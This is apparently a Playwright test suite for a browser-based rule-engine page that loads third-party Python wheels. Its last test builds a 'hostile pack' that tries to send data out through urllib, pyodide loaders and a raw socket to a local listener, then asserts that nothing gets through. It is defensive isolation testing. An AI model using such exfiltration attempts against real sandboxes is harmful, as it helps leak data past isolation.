"""A wheel with rules is installed in the page without a network, told as not ours, and cannot send anything."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

from playwright.sync_api import BrowserContext, Frame, Locator, Page, expect

from tests import wheels
from tests.browser.conftest import outside, vault_of, wait_for_engine
from tests.browser.test_isolation import FROM_ANYWHERE, Listener, listener
from tests.browser.vault_page import DROP, STACK, content, judged, paste

__all__ = ["Listener", "listener"]

LATEST = STACK.replace("shop/api:2.1.0", "shop/api:latest")
FULL = "acme-rules/image-latest"


def bring(vault: Frame, wheel: Path) -> None:
    """Drop a wheel on the page."""
    content(vault).evaluate(DROP, [[wheel.name, list(wheel.read_bytes())]])


def rules_of_others(vault: Frame) -> Locator:
    """Open the rules and return the list of packs."""
    vault.get_by_role("button", name="Rules", exact=True).click()
    return vault.locator(".packs")


def test_a_pack_judges_in_this_tab_alone(app: Page, context: BrowserContext, tmp_path: Path) -> None:
    vault = vault_of(app)
    wheel = wheels.template(tmp_path)
    asked: list[str] = []
    paste(vault, LATEST)
    judged(vault)
    context.on("request", lambda request: asked.append(request.url))
    bring(vault, wheel)
    found = vault.locator(".finding", has_text="nobody knows which version")
    expect(found).to_contain_text("not ours: acme-rules")
    assert [url.split("/")[-1][:10] for url in outside(app, asked)] == ["installer-"]
    packs = rules_of_others(vault)
    expect(packs).to_contain_text("acme-rules 1.0, not ours: 1 rule")
    expect(packs).to_contain_text(hashlib.sha256(wheel.read_bytes()).hexdigest())
    expect(vault.locator(f'details[data-key="{FULL}"]')).to_contain_text("not ours")
    app.reload()
    wait_for_engine(app)
    paste(vault_of(app), LATEST)
    judged(vault_of(app))
    expect(vault_of(app).locator(".finding", has_text="nobody knows")).to_have_count(0)


def test_every_later_engine_has_it_too(app: Page, tmp_path: Path) -> None:
    vault = vault_of(app)
    bring(vault, wheels.template(tmp_path))
    paste(vault, LATEST)
    expect(vault.locator(".finding", has_text="nobody knows")).to_be_visible()
    app.workers[0].evaluate("setTimeout(() => { throw new Error('broken by the test') })")
    vault.locator("[data-engine=failed], .box.bad").or_(vault.locator(".finding").first).first.wait_for()
    paste(vault, LATEST.replace("LOG_LEVEL", "LOG_LEVELS"))
    expect(content(vault)).to_contain_text("LOG_LEVELS")
    judged(vault)
    paste(vault, LATEST)
    judged(vault)
    expect(vault.locator(".finding", has_text="nobody knows")).to_be_visible()


def test_what_is_no_pack_is_told(app: Page, tmp_path: Path) -> None:
    vault = vault_of(app)
    bring(vault, wheels.wheel(tmp_path, "no-rules", {}, {"no_rules.py": ""}))
    expect(vault.locator("dialog .box.bad")).to_contain_text("no entry point of the group `stackengine.rules`")
    vault.get_by_role("button", name="Close").last.click()
    (tmp_path / "odd.whl").write_bytes(b"no zip")
    bring(vault, tmp_path / "odd.whl")
    expect(vault.locator("dialog .box.bad")).to_contain_text("odd.whl: This wheel cannot be installed")


def test_a_hostile_pack_sends_nothing(
    app: Page, listener: tuple[str, object], tmp_path: Path, context: BrowserContext
) -> None:
    vault = vault_of(app)
    address, heard = listener
    ways = [way.replace("url", json.dumps(f"{address}leak-of-a-pack")) for way in FROM_ANYWHERE.values()]
    code = f"""
import pyodide_js, sys
WAYS = {ways!r}
DONE = []
for way in WAYS:
    for make in (
        lambda: pyodide_js.loadPackage.constructor(way)(),
        lambda: pyodide_js.loadPackage({address + "leak.whl"!r}),
        lambda: __import__("urllib.request").request.urlopen({address + "leak"!r}),
        lambda: __import__("pyodide.http").http.open_url({address + "leak"!r}),
        lambda: __import__("socket").create_connection(("127.0.0.1", {address.split(":")[-1].strip("/")})),
    ):
        try:
            make()
            DONE.append(way)
        except BaseException:
            pass
raise RuntimeError("tried everything")
"""
    bring(vault, wheels.wheel(tmp_path, "hostile-rules", {"one": "hostile_one"}, {"hostile_one.py": code}))
    expect(rules_of_others(vault)).to_contain_text("hostile-rules 1.0")
    vault.get_by_role("button", name="Close").last.click()
    seen: list[str] = []
    context.on("request", lambda request: seen.append(request.url))
    paste(vault, LATEST)
    judged(vault)
    expect(vault.locator("[data-view=findings]")).to_contain_text("tried everything")
    expect(vault.locator(".finding", has_text="6 of 6").first).to_be_visible()
    assert outside(app, seen) == []
    assert not [path for path in heard.paths if "leak" in path]  # type: ignore[attr-defined]
